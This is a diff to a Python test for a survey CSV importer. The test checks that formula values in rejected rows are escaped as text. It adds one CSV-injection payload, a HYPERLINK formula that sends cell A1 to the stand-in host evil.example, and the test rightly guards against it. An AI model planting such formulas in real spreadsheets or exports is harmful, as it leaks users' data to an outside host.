@@ -243,6 +243,7 @@ def test_on_error_skip_imports_the_good_rows_and_writes_the_rejects(
     rows[1][3] = 11
     rows[2][2] = "promoter"
     rows[2][5] = "31/02/2025"
+    rows[2][4] = '=HYPERLINK("http://evil.example/?"&A1,"x")'  # a formula in a spreadsheet
     rows[4][4] = "multi\nline"
     rows[4][3] = -1
     path = write_csv(tmp_path / "responses.csv", survey_csv(rows))
@@ -278,6 +279,9 @@ def test_on_error_skip_imports_the_good_rows_and_writes_the_rejects(
     )
     assert "column \"responded_at\": '31/02/2025' - not a date" in rejects[1]["reason"]
     assert rejects[2]["comment"] == "multi\nline"
+    # the rejects file is CSV cxpulse writes: a formula is written as text, a number as is
+    assert rejects[1]["comment"] == '\'=HYPERLINK("http://evil.example/?"&A1,"x")'
+    assert rejects[2]["score"] == "-1"
     assert "score must lie within" in rejects[2]["reason"]
 
     log = store.table(IMPORTS_TABLE).execute()
